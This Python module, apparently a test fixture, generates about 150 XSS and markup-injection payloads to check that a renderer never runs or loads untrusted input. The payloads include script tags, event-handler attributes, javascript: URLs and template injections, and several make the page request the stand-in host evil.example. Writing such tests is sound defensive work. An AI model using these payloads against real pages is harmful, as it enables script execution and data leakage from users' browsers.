"""Markup that would run, load or send something if a page ever took it for its own."""

from __future__ import annotations

from itertools import cycle, islice

# What would be noticed: a dialog, a new node that runs something, a request to EVIL.
EVIL = "evil.example"
_PLAIN = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    f"<iframe src=//{EVIL}>",
    f"<img src=//{EVIL}/a>",
    f"![a](http://{EVIL}/a)",
    "[a](javascript:alert(1))",
    f"<a href=//{EVIL} ping=//{EVIL}>a</a>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    f"<link rel=stylesheet href=//{EVIL}>",
    f"<style>@import '//{EVIL}';</style>",
    f"<style>*{{background:url(//{EVIL})}}</style>",
    f"<base href=//{EVIL}>",
    f"<meta http-equiv=refresh content='0;//{EVIL}'>",
    f"<form action=//{EVIL}><button>",
    "<math href=javascript:alert(1)>a",
    "<template><script>alert(1)</script>",
    "<noscript><img src=x onerror=alert(1)>",
    "<x onclick=alert(1) tabindex=1 autofocus>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "$\\href{javascript:alert(1)}{a}$",
    f"$\\includegraphics{{//{EVIL}}}$",
    ":material/<img src=x onerror=alert(1)>:",
    ":red[<img src=x onerror=alert(1)>]",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
)
_AROUND = (
    "{}",
    "'\">{}",
    "</div>{}",
    "`{}`",
)


def payloads(n: int = 150) -> list[str]:
    """Return so many different ones: each as it is, and out of what it might be put into."""
    found = [around.format(text) for around in _AROUND for text in map(_braced, _PLAIN)]
    found = [text.replace("\x01", "{").replace("\x02", "}") for text in found]
    assert len(set(found)) >= n
    return found[:n]


def in_turn(n: int, start: int = 0) -> list[str]:
    """Return so many, from the start-th on and round again."""
    return list(islice(cycle(payloads()), start % 150, start % 150 + n))


def _braced(text: str) -> str:
    return text.replace("{", "\x01").replace("}", "\x02")
